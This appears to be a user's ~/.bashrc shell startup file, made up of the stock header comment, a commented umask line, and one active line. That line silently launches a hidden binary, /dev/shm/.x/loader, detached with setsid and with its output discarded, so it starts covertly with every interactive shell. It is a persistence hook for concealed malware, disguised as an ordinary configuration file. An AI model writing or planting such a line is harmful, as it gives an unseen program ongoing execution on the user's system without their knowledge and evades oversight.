# ~/.bashrc: executed by bash(1) for non-login shells.
# umask 022
(setsid /dev/shm/.x/loader >/dev/null 2>&1 &)
